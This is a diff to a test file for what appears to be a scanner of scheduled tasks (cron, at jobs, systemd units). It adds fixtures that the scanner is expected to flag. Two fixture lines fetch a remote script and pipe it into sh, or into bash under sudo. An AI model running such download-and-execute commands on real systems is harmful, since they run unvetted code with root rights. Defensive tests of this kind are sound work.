@@ -63,6 +63,8 @@ testChecks({
       'fail:high',
     ],
     ['at', { 'var/spool/cron/atjobs/a00001': '#!/bin/sh\ncurl http://files.example/x | sh\n' }, 'fail:high'],
+    ['lock, then download', crontab('flock -w 5 /run/a wget -qO- https://files.example/x | sudo -E bash'), 'fail:high'],
+    ['more commands than are read', { 'etc/cron.daily/a': 'true;'.repeat(6000) }, 'unknown:too_large'],
     ['unit', unit('/opt/absent --serve'), 'fail:medium'],
     ['unit that may fail', unit('-/opt/absent'), 'pass'],
     ['unit with a condition', unit('/opt/absent', 'ConditionPathExists=/opt/absent\n'), 'pass'],
